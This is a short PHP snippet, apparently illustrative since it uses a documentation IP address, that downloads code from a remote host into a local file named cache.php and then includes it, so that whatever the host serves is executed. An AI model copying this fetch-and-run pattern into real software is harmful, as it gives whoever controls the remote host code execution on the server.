<?php
// Saves code from a remote URL (documentation address) and includes it.
copy("http://192.0.2.10/code.txt", "cache.php");
include("cache.php");
